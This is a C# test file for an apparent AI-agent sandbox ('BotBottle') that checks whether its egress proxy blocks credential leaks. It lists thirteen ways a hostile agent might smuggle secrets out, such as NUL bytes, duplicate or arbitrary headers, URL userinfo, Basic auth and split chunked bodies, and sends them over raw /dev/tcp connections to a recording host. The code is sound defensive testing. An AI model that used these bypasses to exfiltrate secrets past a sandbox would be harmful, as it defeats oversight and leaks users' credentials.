using System.Globalization;
using System.Text;
using BotBottle.Core.Events;
using BotBottle.Testing;

namespace BotBottle.Worker.Tests.Egress;

/// <summary>
/// The credential scan, tried as a hostile agent would from inside a real bottle: every known way of
/// slipping a secret past it (a NUL, a second header, an unscanned header name, URL userinfo, Basic
/// credentials, a request body, a chunk boundary in the middle of the secret), with a secret of
/// every kind, against a listener that records whatever arrives. Nothing may arrive.
/// </summary>
[Collection(EgressScene.Name)]
public sealed class CredentialScanTests(EgressWorld world)
{
    /// <summary>Each way builds one whole request (a proxy request for the recording host) around a secret.</summary>
    public static TheoryData<string> Bypasses => [.. Ways.Keys];

    private static readonly Dictionary<string, Func<string, string, string>> Ways = new(StringComparer.Ordinal)
    {
        ["a %00 in the URL before the secret"] = (host, secret) => Get(host, $"/search?a=%00&key={Uri.EscapeDataString(secret)}"),
        ["every byte of the URL percent-encoded"] = (host, secret) => Get(host, "/q?k=" + string.Concat(Encoding.UTF8.GetBytes(secret).Select(b => $"%{b:X2}"))),
        ["a %00 before the secret in Authorization"] = (host, secret) => Get(host, "/", $"Authorization: Bearer %00{secret}"),
        ["a raw NUL before the secret in Authorization"] = (host, secret) => Get(host, "/", $"Authorization: Bearer \0{secret}"),
        ["a second Authorization header"] = (host, secret) => Get(host, "/", "Authorization: Bearer harmless", $"Authorization: Bearer {secret}"),
        ["a second Cookie header"] = (host, secret) => Get(host, "/", "Cookie: theme=dark", $"Cookie: session={Uri.EscapeDataString(secret)}"),
        ["a header of any name"] = (host, secret) => Get(host, "/", $"X-Foo: {secret}"),
        ["userinfo in the URL"] = (host, secret) => Request("GET", $"http://x-access-token:{Uri.EscapeDataString(secret)}@{host}/", host, [], null),
        ["Basic credentials"] = (host, secret) => Get(host, "/", $"Authorization: Basic {Convert.ToBase64String(Encoding.UTF8.GetBytes("x-access-token:" + secret))}"),
        ["Basic credentials without padding"] = (host, secret) => Get(host, "/", $"Authorization: Basic {Convert.ToBase64String(Encoding.UTF8.GetBytes("git:" + secret + "x")).TrimEnd('=')}"),
        ["a JSON body"] = (host, secret) => Post(host, "application/json", $"{{\"note\":\"{secret}\"}}"),
        ["a form body, percent-encoded"] = (host, secret) => Post(host, "application/x-www-form-urlencoded", $"note={Uri.EscapeDataString(secret)}&x=1"),
        ["a chunked body split inside the secret"] = (host, secret) => Chunked(host, [$"token={secret[..(secret.Length / 2)]}", secret[(secret.Length / 2)..]]),
    };

    [Theory]
    [MemberData(nameof(Bypasses))]
    public async Task A_secret_of_every_kind_is_stopped_whatever_way_it_is_sent(string way)
    {
        var requests = CredentialSamples.Secrets.Select(s => Ways[way](world.RecorderAuthority, s.Secret)).ToList();
        var before = world.Recorder.Received.Count;

        var answers = await SendAsync(requests);

        for (var i = 0; i < requests.Count; i++)
        {
            var (kind, secret) = CredentialSamples.Secrets[i];
            Assert.False(world.Recorder.Saw(secret, before), $"{kind} sent as {way} reached the listener");
            Assert.DoesNotContain("X-Recorded", answers[i], StringComparison.Ordinal);
            if (way.Contains("raw NUL", StringComparison.Ordinal) || way.Contains("userinfo", StringComparison.Ordinal))
            {
                // Squid itself refuses a NUL in a header, and any userinfo (it would forward it as
                // Basic credentials, which it never shows the scanner).
                Assert.Matches("^HTTP/1.1 40[03]", answers[i]);
            }
            else
            {
                Assert.Contains($"X-BotBottle-Block: {kind}", answers[i], StringComparison.Ordinal);
            }
        }

        if (way.Contains("userinfo", StringComparison.Ordinal))
        {
            var denial = await EgressWaits.EventuallyAsync(() => world.Events.All.FirstOrDefault(e =>
                e.Kind == BottleEventKind.EgressDenied && e.Slug == world.Probe.Slug && e.Data?.GetValueOrDefault("credential") == "url-userinfo"));
            Assert.Equal($"blocked GET {world.RecorderAuthority}: the request carried a credential (url-userinfo)", denial.Message);
        }
    }

    [Fact]
    public async Task Ordinary_requests_headers_and_bodies_pass_whole()
    {
        var requests = CredentialSamples.Ordinary.Select(text =>
            Post(world.RecorderAuthority, "text/plain", text, $"X-Note: {text.Replace("\"", "", StringComparison.Ordinal)}")).ToList();

        var answers = await SendAsync(requests);

        Assert.All(answers, a => Assert.Contains("X-Recorded: yes", a, StringComparison.Ordinal));
        Assert.All(CredentialSamples.Ordinary, text => Assert.True(world.Recorder.Saw(text), $"'{text}' did not arrive"));
    }

    [Fact]
    public async Task A_body_larger_than_the_scan_reads_is_refused_with_the_reason_and_one_within_passes()
    {
        var limit = (int)world.Bottles.Egress.MaxScannedBody;

        var within = await PostLargeAsync(limit);
        var over = await PostLargeAsync(limit + 1);

        Assert.Contains("X-Recorded: yes", within, StringComparison.Ordinal);
        Assert.Contains("X-BotBottle-Block: body-too-large", over, StringComparison.Ordinal);
        var denial = await EgressWaits.EventuallyAsync(() => world.Events.All.FirstOrDefault(e =>
            e.Kind == BottleEventKind.EgressDenied && e.Slug == world.Probe.Slug && e.Data?.GetValueOrDefault("reason") == "unscannable-body"));
        Assert.Equal($"refused POST {world.RecorderAuthority}: its body is larger than the credential scan reads (BotBottle:Egress:MaxScannedBody)", denial.Message);
    }

    /// <summary>Sends each request on its own connection to the bottle's proxy; returns the status line and BotBottle's headers of each answer.</summary>
    private async Task<List<string>> SendAsync(List<string> requests)
    {
        const string script = """
            proxy=${HTTP_PROXY#http://}
            for request in "$@"; do
              exec 3<>"/dev/tcp/${proxy%:*}/${proxy##*:}" || { echo "no connection"; echo "=="; continue; }
              printf '%b' "$request" >&3
              timeout 10 cat <&3 | tr -d '\r' | sed '/^$/q' | grep -E '^(HTTP/|X-BotBottle-Block|X-Recorded)' || true
              exec 3<&-
              echo "=="
            done
            """;
        var outcome = await world.Bottles.Backend.ExecAsync(world.Probe.Slug, ["bash", "-c", script, "probe", .. requests.Select(PrintfEscaped)], null, default);
        var answers = outcome.StandardOutput.Split("==\n").SkipLast(1).ToList();
        Assert.Equal(requests.Count, answers.Count);
        return answers;
    }

    private async Task<string> PostLargeAsync(int bytes)
    {
        var script = $$"""
            proxy=${HTTP_PROXY#http://}
            exec 3<>"/dev/tcp/${proxy%:*}/${proxy##*:}"
            printf 'POST http://{{world.RecorderAuthority}}/upload HTTP/1.1\r\nHost: {{world.RecorderAuthority}}\r\nContent-Length: {{bytes}}\r\nConnection: close\r\n\r\n' >&3
            head -c {{bytes}} /dev/zero | tr '\0' a >&3
            timeout 20 cat <&3 | tr -d '\r' | sed '/^$/q'
            """;
        return (await world.Bottles.Backend.ExecAsync(world.Probe.Slug, ["bash", "-c", script], null, default)).StandardOutput;
    }

    private static string Get(string host, string path, params string[] headers) => Request("GET", $"http://{host}{path}", host, headers, null);

    private static string Post(string host, string type, string body, params string[] headers) =>
        Request("POST", $"http://{host}/submit", host, [$"Content-Type: {type}", string.Create(CultureInfo.InvariantCulture, $"Content-Length: {Encoding.UTF8.GetByteCount(body)}"), .. headers], body);

    private static string Chunked(string host, IReadOnlyList<string> chunks) =>
        Request("POST", $"http://{host}/submit", host, ["Content-Type: text/plain", "Transfer-Encoding: chunked"],
            string.Concat(chunks.Select(c => string.Create(CultureInfo.InvariantCulture, $"{Encoding.UTF8.GetByteCount(c):x}\r\n{c}\r\n"))) + "0\r\n\r\n");

    private static string Request(string method, string target, string host, IEnumerable<string> headers, string? body) =>
        $"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{string.Concat(headers.Select(h => h + "\r\n"))}Connection: close\r\n\r\n{body}";

    /// <summary>The request as printf's %b reads it: every byte that is not plain printable ASCII as \xHH, so a NUL survives bash.</summary>
    private static string PrintfEscaped(string request) =>
        string.Concat(Encoding.UTF8.GetBytes(request).Select(b => b is >= 0x20 and < 0x7f && b != '\\' ? ((char)b).ToString() : $"\\x{b:x2}"));
}
